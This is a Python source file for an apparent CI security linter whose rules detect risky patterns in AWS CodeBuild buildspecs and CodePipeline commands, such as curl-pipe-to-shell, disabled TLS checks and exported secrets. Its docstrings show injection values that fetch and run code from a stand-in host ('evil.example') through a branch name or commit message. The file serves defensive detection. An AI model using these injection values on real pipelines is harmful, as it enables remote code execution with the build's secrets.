"""CB101–CB105: what a CodeBuild build runs (buildspec files, inline buildspecs, pipeline commands)."""

from __future__ import annotations

from collections.abc import Iterator

from pipelint.api import Document, Mapping, Node, Report, Scalar, Sequence, rule
from pipelint.textutil import lazy_regex

from ._shell import TLS_ENV, command_scalars, credential_file_write, pipe_to_shell, point, tls_off, webhook_into_shell


def _lines(doc: Document) -> list[tuple[Scalar, str]]:
    """The command lines of a buildspec (not blank, not comments) with the scalar holding each;
    built once per document for the rules that read them (CB101, CB102, CB103, CB106)."""
    return doc.cached("codebuild-command-lines", lambda: _command_lines(doc.root))


def _command_lines(root: Node) -> list[tuple[Scalar, str]]:
    out = []
    for scalar in command_scalars(root):
        for line in scalar.value.splitlines():
            if line.strip() and not line.lstrip().startswith("#"):
                out.append((scalar, line))
    return out


_FETCH_TOOL = lazy_regex(r"\b(curl|wget)\b")
_SHELL_TOOL = lazy_regex(r"(?:^|[\s(|/])((?:ba|z|k|da)?sh|source|\.)(?=[\s)]|$)")


def _summary(command: str) -> str:
    """``curl … | bash``, ``bash <(curl …)``: the shape only, since a command may carry a token."""
    fetch = _FETCH_TOOL.search(command)
    shell = _SHELL_TOOL.search(command)
    tool = fetch.group(1) if fetch else "curl"
    sh = shell.group(1) if shell else "sh"
    if "<(" in command:
        return f"{sh} <({tool} …)"
    if "$(" in command:
        return f'{sh} -c "$({tool} …)"'
    return f"{tool} … | {'sudo ' if 'sudo' in command else ''}{sh}"


@rule("CB101", "pipe-to-shell", severity="warning", kinds=("buildspec",), security_severity=6.5)
def pipe_to_shell_rule(doc: Document, config: dict) -> Iterator[Report]:
    """A build command downloads a script and runs it unseen: ``curl … | sh``, ``bash <(curl …)``.

    Also ``wget -O- … | bash``, ``sh -c "$(curl …)"`` and ``sudo bash`` after the pipe. Checked in
    ``phases.*.commands`` and ``finally``, in buildspec files and inline ``BuildSpec`` strings
    (the finding points at the text, inside block scalars too).

    Why: whoever controls that URL (or the network path, or a typo-squatted domain) runs code in
    the build with its role and secrets, and the script can change between two builds. Download
    the file, check it against a pinned checksum, then run it; or install from a package
    manager with a pinned version.

    Failing::

        version: 0.2
        phases:
          install:
            commands:
              - curl -fsSL https://get.example.com/install.sh | bash

    Fixed::

        version: 0.2
        phases:
          install:
            commands:
              - curl -fsSLo install.sh https://get.example.com/v1.4.2/install.sh
              - echo "<sha256 of v1.4.2's install.sh>  install.sh" | sha256sum -c -
              - bash install.sh

    AWS: no CodeBuild setting governs this; the build runs with the project's service role and
    environment (CodeBuild User Guide, "Allow CodeBuild to interact with other AWS services"),
    which is what such a script can reach.
    """
    for scalar, line in _lines(doc):
        text = pipe_to_shell(line)
        if text is not None:
            yield Report(point(scalar, text), f"`{_summary(text)}` runs a downloaded script without checking it: whoever controls "
                                              "that URL runs code with the build's role and secrets; download it, verify a "
                                              "pinned checksum, then run it",
                         fix="download to a file, `sha256sum -c` against a pinned hash, then run it")


@rule("CB102", "tls-verification-disabled", severity="warning", kinds=("buildspec",), security_severity=5.9)
def tls_verification_disabled(doc: Document, config: dict) -> Iterator[Report]:
    """A build turns TLS certificate verification off for a download tool.

    Reported in commands: ``curl -k``/``--insecure`` (also inside option clusters such as
    ``-sSLk``), ``wget --no-check-certificate``, ``git config http.sslVerify false``,
    ``GIT_SSL_NO_VERIFY=…``, ``NODE_TLS_REJECT_UNAUTHORIZED=0``, ``PYTHONHTTPSVERIFY=0``,
    ``npm config set strict-ssl false``/``--strict-ssl=false``, ``pip --trusted-host``,
    ``PIP_TRUSTED_HOST``; and the same variables under ``env.variables``.

    Why: without certificate checks anyone on the network path can serve different
    dependencies or code to the build, which then runs with the project's role. Fix the
    certificate problem instead (install the internal CA into the image, or point the tool at
    it: ``curl --cacert``, ``npm config set cafile``, ``pip --cert``).

    Failing::

        version: 0.2
        phases:
          install:
            commands:
              - npm config set strict-ssl false
              - curl -sSLk https://artifacts.example.com/tool.tgz -o tool.tgz

    Fixed::

        version: 0.2
        phases:
          install:
            commands:
              - npm config set cafile /etc/pki/ca-trust/source/anchors/corp-ca.pem
              - curl -sSL --cacert /etc/pki/ca-trust/source/anchors/corp-ca.pem https://artifacts.example.com/tool.tgz -o tool.tgz

    Evidence: each tool's own documentation of the flag (curl ``--insecure``, git
    ``http.sslVerify`` and ``GIT_SSL_NO_VERIFY``, npm ``strict-ssl``, pip ``--trusted-host``,
    Node.js ``NODE_TLS_REJECT_UNAUTHORIZED``); no AWS setting is involved.
    """
    for scalar, line in _lines(doc):
        found = tls_off(line)
        if found is not None:
            text, what = found
            yield Report(point(scalar, text), f"{what}: anyone on the network path can serve the build other code; trust the "
                                              "right CA certificate instead",
                         fix="remove it and configure the CA certificate")
    env = doc.root.get("env") if isinstance(doc.root, Mapping) else None
    variables = env.get("variables") if isinstance(env, Mapping) else None
    if isinstance(variables, Mapping):
        for key, value in variables.items():
            effect = TLS_ENV.get(key.text)
            setting = value.text if isinstance(value, Scalar) else ""
            if effect is None or not setting or (key.text in ("NODE_TLS_REJECT_UNAUTHORIZED", "PYTHONHTTPSVERIFY") and setting.strip() != "0"):
                continue
            yield Report(key, f"`env.variables.{key.text}` {effect}: anyone on the network path can serve the build other code; "
                              "trust the right CA certificate instead",
                         fix=f"remove `{key.text}` and configure the CA certificate")


@rule("CB103", "webhook-value-in-shell", severity="warning", kinds=("buildspec",), security_severity=7.5)
def webhook_value_in_shell(doc: Document, config: dict) -> Iterator[Report]:
    """A webhook-controlled value reaches ``eval`` or ``sh -c``.

    Reported when ``$CODEBUILD_WEBHOOK_HEAD_REF``, ``$CODEBUILD_WEBHOOK_BASE_REF``,
    ``$CODEBUILD_WEBHOOK_TRIGGER`` or ``$CODEBUILD_SOURCE_VERSION`` appears after ``eval`` or
    ``bash -c``/``sh -c`` on the same command line.

    Why: branch and tag names are chosen by whoever pushes or opens the pull request, and git
    allows ``$``, ``(``, ``)``, ``;``, ``|``, ``&`` and backquotes in them. A branch named
    ``x$(curl${IFS}evil.example|sh)`` runs that command when the name is evaluated as shell
    code. Use the value as data: quote it, pass it as an argument, never evaluate it.

    Failing::

        version: 0.2
        phases:
          build:
            commands:
              - eval "echo building $CODEBUILD_WEBHOOK_HEAD_REF"

    Fixed::

        version: 0.2
        phases:
          build:
            commands:
              - echo "building ${CODEBUILD_WEBHOOK_HEAD_REF}"

    AWS: CodeBuild User Guide, "Environment variables in build environments"
    (``CODEBUILD_WEBHOOK_HEAD_REF``, ``CODEBUILD_WEBHOOK_TRIGGER``: values taken from the
    webhook event); git ``check-ref-format`` (the characters a ref may hold).
    """
    for scalar, line in _lines(doc):
        found = webhook_into_shell(line)
        if found is not None:
            variable, how = found
            yield Report(point(scalar, variable), f"`{variable}` is text from the webhook event (a branch or tag name anyone who "
                                                  f"pushes can choose) and is evaluated as shell code by {how}; use it as a quoted "
                                                  "argument instead",
                         fix=f"do not pass `{variable}` through {how}")


@rule("CB104", "exported-secret", severity="warning", kinds=("buildspec",), security_severity=6.5)
def exported_secret(doc: Document, config: dict) -> Iterator[Report]:
    """A secret variable is listed in ``env.exported-variables``.

    Reported when a name under ``env.exported-variables`` is also mapped under
    ``env.secrets-manager`` or ``env.parameter-store``.

    Why: exported variables are published with the build: ``BatchGetBuilds`` returns their
    values, and CodePipeline passes them to later actions and shows an action's output
    variables in the execution details, in plain text, to anyone who can view the build or the
    pipeline.

    Failing::

        version: 0.2
        env:
          secrets-manager:
            NPM_TOKEN: ci/npm:token
          exported-variables:
            - NPM_TOKEN
            - IMAGE_TAG
        phases:
          build:
            commands:
              - export IMAGE_TAG=$CODEBUILD_RESOLVED_SOURCE_VERSION

    Fixed::

        version: 0.2
        env:
          secrets-manager:
            NPM_TOKEN: ci/npm:token
          exported-variables:
            - IMAGE_TAG
        phases:
          build:
            commands:
              - export IMAGE_TAG=$CODEBUILD_RESOLVED_SOURCE_VERSION

    AWS: CodeBuild API reference, ``ExportedEnvironmentVariable`` (the build record keeps each
    exported variable's name and value, to pass it to later pipeline stages); buildspec
    reference, ``env/exported-variables``; CodePipeline User Guide, "Working with variables".
    """
    env = doc.root.get("env") if isinstance(doc.root, Mapping) else None
    if not isinstance(env, Mapping):
        return
    secret: dict[str, str] = {}
    for section in ("secrets-manager", "parameter-store"):
        mapping = env.get(section)
        if isinstance(mapping, Mapping):
            for key, _ in mapping.items():
                secret.setdefault(key.text, section)
    exported = env.get("exported-variables")
    for item in exported.items if isinstance(exported, Sequence) else []:
        if isinstance(item, Scalar) and item.text in secret:
            yield Report(item, f"`{item.text}` comes from `env.{secret[item.text]}` and is exported: its value is shown in plain text "
                               "in the build's and the pipeline's execution details; remove it from `exported-variables`",
                         fix=f"remove `{item.text}` from `exported-variables`")


_REMOVE = lazy_regex(r"(?:^|[\s;&|])rm(?=\s)")
_CREDENTIAL_NAMES = (".npmrc", ".pypirc", ".git-credentials", ".netrc", "config.json")


def _sweeping_artifacts(root: Mapping) -> Scalar | None:
    """The ``artifacts.files`` entry ``**/*`` when it packs the whole source directory (no
    ``base-directory``, no ``exclude-paths``), else ``None``."""
    artifacts = root.get("artifacts")
    if not isinstance(artifacts, Mapping) or "base-directory" in artifacts or "exclude-paths" in artifacts:
        return None
    files = artifacts.get("files")
    for item in files.items if isinstance(files, Sequence) else [files]:
        if isinstance(item, Scalar) and isinstance(item.value, str) and item.value.strip() in ("**/*", "./**/*"):
            return item
    return None


@rule("CB106", "credentials-file-in-artifacts", severity="warning", kinds=("buildspec",), security_severity=7.5)
def credentials_file_in_artifacts(doc: Document, config: dict) -> Iterator[Report]:
    """A build writes a credentials file into the source directory and packs the whole directory as artifacts.

    Reported when a command writes ``.npmrc``, ``.pypirc``, ``.git-credentials``, ``.netrc``
    or ``.docker/config.json`` at a relative path (``>``, ``>>``, ``tee``, ``--userconfig``)
    with a shell-expanded value (``"$NPM_TOKEN"``: a single-quoted ``'${NPM_TOKEN}'`` leaves the
    variable for the tool to resolve and writes no secret), and ``artifacts.files`` is
    ``**/*`` with no ``base-directory`` and no ``exclude-paths``. Not reported when a later
    command removes the file.

    Why: the artifact (an S3 object, or a CodePipeline artifact every later action and anyone
    with read access to the artifact bucket can download) then carries the token in clear.

    Failing::

        version: 0.2
        phases:
          build:
            commands:
              - echo "//registry.npmjs.org/:_authToken=${NPM_TOKEN}" > .npmrc
              - npm ci && npm run build
        artifacts:
          files:
            - '**/*'

    Fixed (write the file outside the source directory, or let npm read the variable)::

        version: 0.2
        phases:
          build:
            commands:
              - echo '//registry.npmjs.org/:_authToken=${NPM_TOKEN}' > .npmrc
              - npm ci && npm run build
        artifacts:
          files:
            - '**/*'

    AWS: buildspec reference, ``artifacts/files`` (``**/*`` "represents all files recursively")
    and ``artifacts/exclude-paths``.
    """
    root = doc.root
    if not isinstance(root, Mapping):
        return
    sweep = _sweeping_artifacts(root)
    if sweep is None:
        return
    lines = list(_lines(doc))
    last_removal: dict[str, int] = {}
    for index, (_, line) in enumerate(lines):
        if _REMOVE.search(line):
            for name in _CREDENTIAL_NAMES:
                if name in line:
                    last_removal[name] = index
    for index, (scalar, line) in enumerate(lines):
        path = credential_file_write(line)
        if path is None:
            continue
        name = next((n for n in _CREDENTIAL_NAMES if path.endswith(n)), path)
        if last_removal.get(name, -1) > index:
            continue
        yield Report(point(scalar, path), f"this command writes a secret into `{path}` in the source directory, and "
                                          f"`artifacts.files: {sweep.value}` packs that directory, so the token ships in the "
                                          "build's artifact; write it outside the source directory, or exclude it",
                     fix=f"add `exclude-paths: ['{path[2:] if path.startswith('./') else path}']` under `artifacts`, or write it under `$HOME`")


_UNTRUSTED_PIPELINE_VARIABLE = lazy_regex(
    r"#\{(?:[A-Za-z0-9@_-]+\.(?:CommitMessage|BranchName|AuthorDisplayName)|variables\.[A-Za-z0-9@_-]+)\}")


@rule("CB105", "untrusted-pipeline-variable-in-commands", severity="warning", kinds=("pipeline",), security_severity=7.0)
def untrusted_pipeline_variable_in_commands(doc: Document, config: dict) -> Iterator[Report]:
    """A Commands action's command contains a pipeline variable whose text someone else chose.

    Reported for ``#{<namespace>.CommitMessage}``, ``#{<namespace>.BranchName}``,
    ``#{<namespace>.AuthorDisplayName}`` and pipeline-level ``#{variables.<name>}`` inside the
    ``Commands`` of an action (CloudFormation or ``aws codepipeline`` JSON).

    Why: CodePipeline substitutes the variable's text into the command before the shell reads
    it. A commit message is written by whoever commits, a branch name by whoever pushes, a
    pipeline variable by whoever starts the execution; ``"; curl evil.example | sh; "`` in any
    of them becomes a command. Pass the value through an environment variable and quote it.

    Failing::

        Resources:
          Pipeline:
            Type: AWS::CodePipeline::Pipeline
            Properties:
              PipelineType: V2
              RoleArn: !GetAtt PipelineRole.Arn
              ArtifactStore: {Type: S3, Location: !Ref ArtifactBucket}
              Stages:
                - Name: Source
                  Actions:
                    - Name: Source
                      ActionTypeId: {Category: Source, Owner: AWS, Provider: CodeCommit, Version: "1"}
                      Configuration: {RepositoryName: app, BranchName: main}
                      OutputArtifacts: [{Name: Src}]
                      Namespace: SourceVariables
                - Name: Deploy
                  Actions:
                    - Name: Announce
                      ActionTypeId: {Category: Compute, Owner: AWS, Provider: Commands, Version: "1"}
                      InputArtifacts: [{Name: Src}]
                      Commands:
                        - 'echo "Deploying #{SourceVariables.CommitMessage}"'

    Fixed::

        Resources:
          Pipeline:
            Type: AWS::CodePipeline::Pipeline
            Properties:
              PipelineType: V2
              RoleArn: !GetAtt PipelineRole.Arn
              ArtifactStore: {Type: S3, Location: !Ref ArtifactBucket}
              Stages:
                - Name: Source
                  Actions:
                    - Name: Source
                      ActionTypeId: {Category: Source, Owner: AWS, Provider: CodeCommit, Version: "1"}
                      Configuration: {RepositoryName: app, BranchName: main}
                      OutputArtifacts: [{Name: Src}]
                      Namespace: SourceVariables
                - Name: Deploy
                  Actions:
                    - Name: Announce
                      ActionTypeId: {Category: Compute, Owner: AWS, Provider: Commands, Version: "1"}
                      InputArtifacts: [{Name: Src}]
                      EnvironmentVariables:
                        - Name: COMMIT_MESSAGE
                          Value: "#{SourceVariables.CommitMessage}"
                      Commands:
                        - echo "Deploying ${COMMIT_MESSAGE}"

    AWS: CodePipeline User Guide, "Variables reference" (source action output variables
    ``CommitMessage``, ``BranchName``; pipeline-level variables) and "Commands action
    reference".
    """
    from pipelint.models.pipeline import list_items, pipeline_of

    for action in pipeline_of(doc).actions:
        items, _ = list_items(action.commands)
        for item, _ in items:
            if not isinstance(item, Scalar) or not isinstance(item.value, str):
                continue
            found = _UNTRUSTED_PIPELINE_VARIABLE.search(item.value)
            if found is None:
                continue
            text = found.group(0)
            yield Report(point(item, text), f"`{text}` is text someone else chose (a commit message, branch name or execution "
                                            "variable) and is pasted into this command before the shell reads it; pass it "
                                            "through an environment variable and quote it",
                         fix="map it to an action environment variable and use `\"${NAME}\"`")
